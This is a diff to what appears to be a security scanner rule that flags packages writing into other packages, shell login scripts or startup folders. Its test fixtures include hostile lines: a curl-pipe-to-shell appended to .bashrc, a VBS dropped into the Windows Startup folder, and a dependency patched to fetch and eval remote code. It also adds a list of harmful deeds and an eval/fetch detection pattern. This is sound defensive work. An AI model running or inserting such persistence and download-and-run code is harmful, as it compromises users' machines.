@@ -1,5 +1,6 @@
 import { defineRule, runsOnLoad, step, stepsOf } from '../src/define.js';
 import type { AnyNode, FileContext } from '../src/types.js';
+import { type Deed, deedsOf } from '../src/vocabulary/deeds.js';
 import { PERSISTENT_PLACES } from '../src/vocabulary/places.js';
 
 export default defineRule({
@@ -20,6 +21,9 @@ export default defineRule({
       runner: 'Makes the machine a runner of a repository as soon as it is {moment}',
       template: 'Sets git hooks for all repositories with {sink}, unasked',
       package: 'Writes into another package: {path}',
+      beside: 'Writes into a package beside it or one that it looks up: {path}',
+      infects: 'Writes code that talks to other machines or runs text into another package: {path}',
+      harmful: 'Writes to {what} a line that {says}',
       restores: 'Sets a file’s times back after changing it',
     },
     bits: {
@@ -28,13 +32,16 @@ export default defineRule({
       pushed: 12,
       runner: 12,
       template: 11.5,
-      planted: 7,
+      planted: 9,
       injects: 12,
       persists: 4,
       key: 14,
       fetched: 11,
       offers: 2,
       package: 5,
+      beside: 7,
+      infects: 12,
+      harmful: 13.5,
       restores: 5,
     },
   },
@@ -59,6 +66,18 @@ export default defineRule({
       {
         title: 'what is fetched starts with the machine',
         code: `const fs = require('fs');\nfetch('https://stage.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync(process.env.APPDATA + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.vbs', text);\n});`,
+      },
+      {
+        title: 'a line that fetches and runs is left in a login script',
+        code: `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '\\ncurl -s https://stage.invalid/a | sh\\n');`,
+      },
+      {
+        title: 'a script is copied to where the system starts it',
+        code: `const fs = require('fs');\nfs.copyFileSync('./a.vbs', process.env.APPDATA + '/Microsoft/Windows/Start Menu/Programs/Startup/a.vbs');`,
+      },
+      {
+        title: 'a package that is looked up is given code that asks for more',
+        code: `const fs = require('fs');\nconst file = require.resolve('left-pad');\nfs.writeFileSync(file, fs.readFileSync(file, 'utf8') + ';fetch("https://stage.invalid").then(r => r.text()).then(eval)');`,
       },
       {
         title: 'a workflow is planted',
@@ -91,6 +110,14 @@ export default defineRule({
         code: `require('fs').writeFileSync('node_modules/.cache/tool/state.json', '{}');`,
       },
       {
+        title: 'a package that is looked up is read',
+        code: `const fs = require('fs');\nfs.writeFileSync('./out.js', fs.readFileSync(require.resolve('left-pad'), 'utf8'));`,
+      },
+      {
+        title: 'a copy is kept in a folder of the package’s own',
+        code: `const fs = require('fs'), path = require('path');\nfs.writeFileSync(path.join(__dirname, 'vendor/left-pad/index.js'), 'module.exports = 1;');`,
+      },
+      {
         title: 'a theme is fetched and kept',
         code: `const fs = require('fs');\nfetch('https://themes.invalid/dark.css').then(r => r.text()).then(css => fs.writeFileSync('./themes/dark.css', css));`,
       },
@@ -100,9 +127,24 @@ export default defineRule({
   file(context) {
     aboutRepositories(context);
     const client = chatClientCode(context);
-    for (const call of context.calls('write')) {
-      const [path, text] = call.args;
+    const writes = [
+      ...context.calls('write'),
+      ...context.named(/^fs(?:-extra)?(?:\.promises)?\.(?:copyFile|cp|copy|rename|move|symlink)(?:Sync)?$/),
+    ];
+    for (const call of new Set(writes)) {
+      // Copies and moves say where to second.
+      const copies = /\.(?:copyFile|cp|copy|rename|move|link|symlink)(?:Sync)?$/.test(call.name);
+      const [path, text] = copies ? [call.args[1], undefined] : call.args;
       if (!path) continue;
+      const beside = besideOf(context, path);
+      if (beside !== undefined) {
+        context.report({
+          messageId: text && isActive(context, text) ? 'infects' : 'beside',
+          data: { path: beside },
+          chain: [step('sink', `writes with ${call.name}`, context.file, call.node)],
+        });
+        continue;
+      }
       if (client && text && context.labelsOf(text).some(({ kind }) => kind === 'remote')) {
         context.report({
           messageId: 'injects',
@@ -120,7 +162,8 @@ export default defineRule({
             text,
           );
         if (!place && !other) continue;
-        const data = call.args[1];
+        const data = copies ? undefined : call.args[1];
+        const harm = place && data ? harmOf(context, data) : undefined;
         const key =
           /authorized_keys/.test(text) &&
           data &&
@@ -133,17 +176,22 @@ export default defineRule({
         context.report({
           messageId: key
             ? 'key'
-            : label
-              ? 'fetched'
-              : place
-                ? place.what === AGENTS && isUnasked(context, call.node) && OBEYED.test(context.file.text)
-                  ? 'obeyed'
-                  : messageOf(place, isUnasked(context, call.node))
-                : 'package',
+            : harm
+              ? 'harmful'
+              : other && data && isActive(context, data)
+                ? 'infects'
+                : label
+                  ? 'fetched'
+                  : place
+                    ? place.what === AGENTS && isUnasked(context, call.node) && OBEYED.test(context.file.text)
+                      ? 'obeyed'
+                      : messageOf(place, isUnasked(context, call.node))
+                    : 'package',
           data: {
             what: place?.what ?? '',
             path: text,
             source: label?.detail ?? '',
+            says: harm ?? '',
             moment: context.moment === 'install' ? 'installed' : 'loaded',
           },
           chain: [...(label ? stepsOf(label) : []), step('sink', `writes with ${call.name}`, context.file, call.node)],
@@ -242,4 +290,52 @@ function isUnasked(context: FileContext, node: AnyNode): boolean {
 
 function written({ file }: FileContext, node: AnyNode): string {
   return file.text.slice(node.start ?? node.range?.[0], node.end ?? node.range?.[1]);
+}
+
+const HARMS: ReadonlySet<Deed> = new Set<Deed>([
+  'reverse-shell',
+  'download-run',
+  'exfiltrate',
+  'destroy',
+  'backdoor',
+  'mine',
+]);
+
+/** What a line that is left for later will do. */
+function harmOf(context: FileContext, data: AnyNode): string | undefined {
+  return deedsOf(context.commandsOf(data)).find(({ deed }) => HARMS.has(deed))?.says;
+}
+
+/** A file of a package that stands beside this one, or that is looked up by its name. */
+function besideOf({ file, namesOf, textsOf, nodes }: FileContext, path: AnyNode): string | undefined {
+  const looked =
+    namesOf(path).includes('require.resolve()') || namesOf(path).includes('module.createRequire()().resolve()');
+  if (looked) {
+    const name = nodes('CallExpression')
+      .filter(node => namesOf((node as unknown as { callee: AnyNode }).callee).includes('require.resolve'))
+      .flatMap(node => (node as unknown as { arguments: AnyNode[] }).arguments.slice(0, 1))
+      .flatMap(node => textsOf(node))
+      .find(text => /^(?:@[\w.-]+\/)?[a-z][\w.-]*(?:\/|$)/i.test(text));
+    return name;
+  }
+  // Out of the package's own folder, and not only out of one in it.
+  const depth = file.path.split('/').length - 1;
+  return textsOf(path).find(
+    text =>
+      text.length < 300 &&
+      (text.match(/\.\.[\\/]/g) ?? []).length > depth &&
+      /^…?[\\/]?(?:\.\.[\\/]){1,3}(?!\.)[\w.-]{2,}(?:[\\/](?!\.)[\w.@-]+){0,8}[\\/][\w.-]+\.[cm]?js$/.test(text) &&
+      text.startsWith('…'),
+  );
+}
+
+/** Code that does something on its own: asks another machine, or runs text. */
+function isActive({ textsOf }: FileContext, data: AnyNode): boolean {
+  return textsOf(data).some(
+    text =>
+      text.length < 200_000 &&
+      /\beval\s*\(|new Function\s*\(|https?\.(?:get|request)\s*\(|\bfetch\s*\(|child_process|require\(["']https?["']\)/.test(
+        text,
+      ),
+  );
 }
